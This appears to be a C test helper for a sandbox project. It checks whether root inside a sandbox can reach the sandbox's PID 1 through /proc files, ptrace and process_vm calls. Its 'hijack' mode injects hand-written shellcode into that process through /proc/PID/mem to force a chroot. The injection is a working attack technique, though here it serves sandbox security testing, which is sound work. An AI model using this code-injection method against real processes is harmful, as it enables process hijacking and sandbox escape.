/* guest_attack.c -- the attacks on a sandbox's PID 1 (moat-guest), as root inside would run them
 *
 * Built statically on the host (tests/lib/guest_attack.py) and run inside a sandbox, or on the
 * host against a sandbox's init to stand for a PID 1 that is already compromised.
 *
 *   guest_attack reach PID        one line per way into PID: "NAME OK" or "NAME ERR ENAME"
 *   guest_attack hijack PID DIR   writes code at PID's resume address (from /proc/PID/syscall)
 *                                 through /proc/PID/mem that makes it chroot(DIR) and pause for
 *                                 ever; prints "OK" or "ERR ENAME step=..."
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static void line(const char *name, long rc) {
  if (rc >= 0)
    printf("%s OK\n", name);
  else
    printf("%s ERR %s\n", name, strerrorname_np(errno) ? strerrorname_np(errno) : "E?");
}

static long open_close(const char *path, int flags) {
  int fd = open(path, flags | O_CLOEXEC);
  if (fd < 0)
    return -1;
  close(fd);
  return 0;
}

/* /proc/PID/mem opened: a way in, unless the process has exited and has no memory left (the open
 * then succeeds on nothing and a read at 0 gives EOF; a live one gives EIO there). */
static long mem_open(const char *path, int flags) {
  int fd = open(path, flags | O_CLOEXEC);
  if (fd < 0)
    return -1;
  char c;
  ssize_t n = pread(fd, &c, 1, 0);
  close(fd);
  if (n == 0) {
    errno = ESRCH;
    return -1;
  }
  return 0;
}

static long read_some(const char *path) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return -1;
  char buf[64];
  ssize_t n = read(fd, buf, sizeof(buf));
  int e = n == 0 ? ESRCH : errno; /* nothing to read: a process that has exited (no memory left) */
  close(fd);
  errno = e;
  return n <= 0 ? -1 : 0;
}

static long list_dir(const char *path) {
  DIR *d = opendir(path);
  if (!d)
    return -1;
  errno = 0;
  struct dirent *de = readdir(d);
  int e = errno;
  closedir(d);
  errno = e;
  return de || e == 0 ? 0 : -1;
}

static long link_of(const char *path) {
  char buf[4096];
  return readlink(path, buf, sizeof(buf)) < 0 ? -1 : 0;
}

static int reach(pid_t pid) {
  char p[64];
  snprintf(p, sizeof(p), "/proc/%d/mem", pid);
  line("mem_rw", mem_open(p, O_RDWR));
  line("mem_r", mem_open(p, O_RDONLY));
  snprintf(p, sizeof(p), "/proc/%d/task/%d/mem", pid, pid);
  line("task_mem", mem_open(p, O_RDWR));
  snprintf(p, sizeof(p), "/proc/%d/environ", pid);
  line("environ", read_some(p));
  snprintf(p, sizeof(p), "/proc/%d/syscall", pid);
  line("syscall", read_some(p));
  snprintf(p, sizeof(p), "/proc/%d/maps", pid);
  line("maps", read_some(p));
  /* the numbers in /proc/PID/fd are listed by the dir's mode; what they are needs ptrace access */
  snprintf(p, sizeof(p), "/proc/%d/fd/0", pid);
  line("fd_link", link_of(p));
  line("fd_open", open_close(p, O_RDONLY));
  snprintf(p, sizeof(p), "/proc/%d/fdinfo/0", pid);
  line("fdinfo", read_some(p));
  snprintf(p, sizeof(p), "/proc/%d/root", pid);
  line("root", link_of(p));
  snprintf(p, sizeof(p), "/proc/%d/cwd", pid);
  line("cwd", link_of(p));
  snprintf(p, sizeof(p), "/proc/%d/exe", pid);
  line("exe", link_of(p));
  snprintf(p, sizeof(p), "/proc/%d/root/", pid);
  line("root_dir", list_dir(p));
  long rc = ptrace(PTRACE_ATTACH, pid, NULL, NULL);
  if (rc == 0) {
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
  }
  line("ptrace_attach", rc);
  rc = ptrace(PTRACE_SEIZE, pid, NULL, NULL);
  if (rc == 0)
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
  line("ptrace_seize", rc);
  char buf[16];
  struct iovec local = {buf, sizeof(buf)}, remote = {(void *)0x400000, sizeof(buf)};
  line("process_vm_readv", process_vm_readv(pid, &local, 1, &remote, 1, 0));
  line("process_vm_writev", process_vm_writev(pid, &local, 1, &remote, 1, 0));
  return 0;
}

static int fail(const char *step) {
  printf("ERR %s step=%s\n", strerrorname_np(errno) ? strerrorname_np(errno) : "E?", step);
  return 0;
}

static int hijack(pid_t pid, const char *dir) {
  char p[64];
  snprintf(p, sizeof(p), "/proc/%d/syscall", pid);
  FILE *f = fopen(p, "re");
  if (!f)
    return fail("open-syscall");
  char text[512] = "";
  if (!fgets(text, sizeof(text), f)) {
    fclose(f);
    return fail("read-syscall");
  }
  fclose(f);
  /* "NR a1 a2 a3 a4 a5 a6 sp pc" while blocked in a system call: pc is the last field */
  char *last = strrchr(text, ' ');
  uint64_t pc = last ? strtoull(last + 1, NULL, 16) : 0;
  if (!pc || strncmp(text, "running", 7) == 0) {
    errno = EAGAIN;
    return fail("no-resume-address");
  }
  /* lea rdi,[rip+16]; mov eax,161 (chroot); syscall; 1: mov eax,34 (pause); syscall; jmp 1b; DIR */
  unsigned char code[256] = {0x48, 0x8d, 0x3d, 0x10, 0x00, 0x00, 0x00, 0xb8, 0xa1, 0x00, 0x00, 0x00,
                             0x0f, 0x05, 0xb8, 0x22, 0x00, 0x00, 0x00, 0x0f, 0x05, 0xeb, 0xf7};
  size_t n = 23, dl = strlen(dir);
  if (dl + 1 > sizeof(code) - n) {
    errno = ENAMETOOLONG;
    return fail("dir");
  }
  memcpy(code + n, dir, dl + 1);
  n += dl + 1;
  snprintf(p, sizeof(p), "/proc/%d/mem", pid);
  int fd = open(p, O_RDWR | O_CLOEXEC);
  if (fd < 0)
    return fail("open-mem");
  ssize_t w = pwrite(fd, code, n, (off_t)pc);
  int e = errno;
  close(fd);
  errno = e;
  if (w != (ssize_t)n)
    return fail("write-mem");
  printf("OK pc=%" PRIx64 " bytes=%zu\n", pc, n);
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 3 && strcmp(argv[1], "reach") == 0)
    return reach((pid_t)atoi(argv[2]));
  if (argc == 4 && strcmp(argv[1], "hijack") == 0)
    return hijack((pid_t)atoi(argv[2]), argv[3]);
  fprintf(stderr, "usage: guest_attack reach PID | hijack PID DIR\n");
  return 2;
}
